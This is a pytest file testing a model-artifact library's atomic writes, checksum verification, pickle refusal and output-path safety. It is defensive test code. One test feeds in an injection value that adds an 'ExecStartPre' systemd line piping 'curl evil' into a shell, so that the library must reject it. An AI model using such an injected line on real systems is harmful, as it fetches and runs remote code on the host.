"""The artifact contract: atomic writes, checksums, plain checkpoints accepted, unsafe or damaged input refused."""

from __future__ import annotations

import json
import shutil

import pytest

from edgepack.artifact import MANIFEST_NAME, ArtifactWriter, check_safetensors, hash_files, open_artifact, stage_record
from edgepack.errors import ArtifactError


def _write_one(out, text="hello", force=False):
    with ArtifactWriter(out, force=force) as w:
        (w.path / "weights.txt").write_text(text)
        return w.commit(format="text", record=stage_record("test", {"a": 1}, 0.5, {"x": 1.0}), base_model="m")


def test_commit_writes_manifest_with_files_and_history(tmp_path):
    art = _write_one(tmp_path / "a")
    m = json.loads((tmp_path / "a" / MANIFEST_NAME).read_text())
    assert m["schema_version"] == 1 and m["format"] == "text" and m["base_model"] == "m"
    assert m["files"]["weights.txt"]["bytes"] == 5
    assert len(m["files"]["weights.txt"]["sha256"]) == 64
    rec = m["history"][0]
    assert rec["stage"] == "test" and rec["metrics"] == {"x": 1.0} and rec["seconds"] == 0.5
    assert "python" in rec["versions"]
    assert art.digest() == open_artifact(tmp_path / "a").digest()


def test_history_is_appended_from_parent(tmp_path):
    parent = _write_one(tmp_path / "a")
    with ArtifactWriter(tmp_path / "b") as w:
        (w.path / "f").write_text("x")
        child = w.commit(format="text", parent=parent, record=stage_record("second", {}, 0, {}))
    assert [r["stage"] for r in child.history] == ["test", "second"]
    assert child.base_model == "m"


def test_crash_inside_writer_leaves_nothing_that_looks_complete(tmp_path):
    out = tmp_path / "out"
    with pytest.raises(RuntimeError):
        with ArtifactWriter(out) as w:
            (w.path / "half.bin").write_bytes(b"\0" * 100)
            raise RuntimeError("killed mid-stage")
    assert not out.exists()
    assert list(tmp_path.iterdir()) == []  # the temporary sibling is gone too


def test_keyboard_interrupt_keeps_previous_output_intact(tmp_path):
    out = tmp_path / "out"
    _write_one(out, "old")
    with pytest.raises(KeyboardInterrupt):
        with ArtifactWriter(out, force=True) as w:
            (w.path / "weights.txt").write_text("new")
            raise KeyboardInterrupt
    assert (out / "weights.txt").read_text() == "old"
    open_artifact(out, verify=True)


def test_stale_partial_from_killed_process_is_removed(tmp_path):
    stale = tmp_path / ".out.partial-999999999"
    stale.mkdir()
    (stale / "junk").write_text("x")
    _write_one(tmp_path / "out")
    assert not stale.exists()


def test_non_empty_output_refused_without_force(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "precious.txt").write_text("keep me")
    with pytest.raises(ArtifactError, match="--force"):
        _write_one(out)
    assert (out / "precious.txt").read_text() == "keep me"
    _write_one(out, force=True)
    assert not (out / "precious.txt").exists()


def test_verify_detects_tampering(tmp_path):
    _write_one(tmp_path / "a")
    (tmp_path / "a" / "weights.txt").write_text("HELLO")
    open_artifact(tmp_path / "a")  # opening without verify does not read the files
    with pytest.raises(ArtifactError, match="does not match its sha256"):
        open_artifact(tmp_path / "a", verify=True)
    (tmp_path / "a" / "weights.txt").unlink()
    with pytest.raises(ArtifactError, match="missing"):
        open_artifact(tmp_path / "a", verify=True)


def test_plain_checkpoint_is_accepted(tiny_model):
    art = open_artifact(tiny_model)
    assert art.format == "hf" and not art.has_manifest and art.history == []
    assert "model.safetensors" in art.files


def test_pickled_checkpoint_refused_unless_trusted(tmp_path, tiny_model):
    d = tmp_path / "pkl"
    d.mkdir()
    shutil.copy(tiny_model / "config.json", d)
    (d / "pytorch_model.bin").write_bytes(b"not really a pickle")
    with pytest.raises(ArtifactError, match="pickled weights .*--trust-pickle"):
        open_artifact(d)
    assert open_artifact(d, trust_pickle=True).format == "hf"


@pytest.mark.parametrize("damage", ["truncate", "header"])
def test_corrupt_safetensors_detected(tmp_path, tiny_model, damage):
    d = tmp_path / "bad"
    shutil.copytree(tiny_model, d)
    st = d / "model.safetensors"
    data = st.read_bytes()
    st.write_bytes(data[: len(data) // 2] if damage == "truncate" else data[:8] + b"{nope" + data[13:])
    with pytest.raises(ArtifactError, match="corrupt|truncated"):
        open_artifact(d)


def test_missing_shard_and_missing_weights(tmp_path, tiny_model):
    d = tmp_path / "sharded"
    shutil.copytree(tiny_model, d)
    (d / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {"a": "model-00002.safetensors"}}))
    with pytest.raises(ArtifactError, match="missing weight shard"):
        open_artifact(d)
    (d / "model.safetensors.index.json").unlink()
    (d / "model.safetensors").unlink()
    with pytest.raises(ArtifactError, match="no weights"):
        open_artifact(d)


def test_not_a_model_dir_and_missing_path(tmp_path):
    with pytest.raises(ArtifactError, match="does not exist"):
        open_artifact(tmp_path / "nope")
    with pytest.raises(ArtifactError, match="not a model directory"):
        open_artifact(tmp_path)
    f = tmp_path / "file.txt"
    f.write_text("x")
    with pytest.raises(ArtifactError, match="is a file"):
        open_artifact(f)


def test_newer_schema_refused(tmp_path):
    _write_one(tmp_path / "a")
    m = json.loads((tmp_path / "a" / MANIFEST_NAME).read_text())
    m["schema_version"] = 99
    (tmp_path / "a" / MANIFEST_NAME).write_text(json.dumps(m))
    with pytest.raises(ArtifactError, match="upgrade edgepack"):
        open_artifact(tmp_path / "a")


def test_check_safetensors_accepts_real_file(tiny_model):
    check_safetensors(tiny_model / "model.safetensors")
    assert hash_files(tiny_model)["model.safetensors"]["bytes"] == (tiny_model / "model.safetensors").stat().st_size


@pytest.mark.parametrize("args", [
    lambda a: ["bundle", str(a), "--target", "cpu-x86-64", "-o", str(a), "--force"],
    lambda a: ["bundle", str(a), "--target", "cpu-x86-64", "-o", str(a / "b.tar")],
    lambda a: ["bundle", str(a), "--target", "cpu-x86-64", "-o", str(a / "sub" / "b")],
    lambda a: ["quantize", str(a), "--method", "int8", "-o", str(a / "q")],
    lambda a: ["convert", str(a), "-o", str(a / "sub")],
    lambda a: ["convert", str(a), "-o", str(a.parent), "--force"],  # the output would hold (and replace) the input
    lambda a: ["export", "onnx", str(a), "-o", str(a / "onnx")],
    lambda a: ["prune", str(a), "--method", "magnitude", "-o", str(a / "p")],
])
def test_an_output_equal_to_inside_or_holding_the_input_is_refused(stories_copy, tmp_path, args):
    from click.testing import CliRunner

    from edgepack.cli import cli

    art = stories_copy
    before = hash_files(art)
    r = CliRunner().invoke(cli, args(art))
    assert r.exit_code == 1 and "error: output" in r.output and "the input" in r.output, r.output
    assert hash_files(art) == before and sorted(p.name for p in tmp_path.iterdir()) == ["art"]


def test_the_library_refuses_it_too_and_device_dir_cannot_inject_unit_lines(stories_copy, tmp_path):
    from edgepack.deploy.bundle import BundleConfig, make_bundle
    from edgepack.targets import load_target

    art = stories_copy
    with pytest.raises(ArtifactError, match="is inside the input"):
        make_bundle(art, load_target("cpu-x86-64"), art / "b")
    with pytest.raises(ArtifactError, match="is inside the input"):
        ArtifactWriter(art / "x", inputs=[art])
    from edgepack.errors import ConfigError

    with pytest.raises(ConfigError, match="device_dir must be"):
        make_bundle(art, load_target("cpu-x86-64"), tmp_path / "b",
                    BundleConfig(device_dir="edgepack\nExecStartPre=/bin/sh -c 'curl evil|sh'"))
    assert not (tmp_path / "b").exists()


def test_committed_bytes_do_not_depend_on_writer_order(tmp_path):
    """safetensors emits its metadata table in hash-map order and peft writes target_modules from a set: the
    committed artifact has one canonical form, so identical runs give identical digests (and cache keys)."""
    import struct

    import numpy as np
    from safetensors.numpy import save_file

    def header(p):
        raw = p.read_bytes()
        (n,) = struct.unpack("<Q", raw[:8])
        return raw[8:8 + n]

    outs = []
    for i, order in enumerate([["b", "a", "c"], ["c", "b", "a"]]):
        with ArtifactWriter(tmp_path / f"a{i}") as w:
            save_file({"x.weight": np.arange(6, dtype=np.float32)}, str(w.path / "model.safetensors"),
                      metadata={k: k * 3 for k in order})
            (w.path / "adapter").mkdir()
            (w.path / "adapter" / "adapter_config.json").write_text(json.dumps({"r": 4, "target_modules": order}))
            outs.append(w.commit(format="hf", record=None, base_model="x"))
    assert outs[0].digest() == outs[1].digest()
    h = json.loads(header(outs[0].path / "model.safetensors"))
    assert list(h["__metadata__"]) == ["a", "b", "c"] and list(h) == sorted(h)
    assert json.loads((outs[0].path / "adapter" / "adapter_config.json").read_text())["target_modules"] == ["a", "b", "c"]
    from safetensors.numpy import load_file

    assert load_file(str(outs[0].path / "model.safetensors"))["x.weight"].tolist() == list(range(6))
    open_artifact(outs[0].path, verify=True)


def test_work_dirs_of_killed_runs_are_removed(tmp_path):
    from edgepack.artifact import WorkDir

    stale = tmp_path / ".out.work-999999999"  # a pid that cannot exist
    stale.mkdir()
    with WorkDir(tmp_path / "out") as work:
        assert not stale.exists() and str(tmp_path) in work
    assert sorted(p.name for p in tmp_path.iterdir()) == []
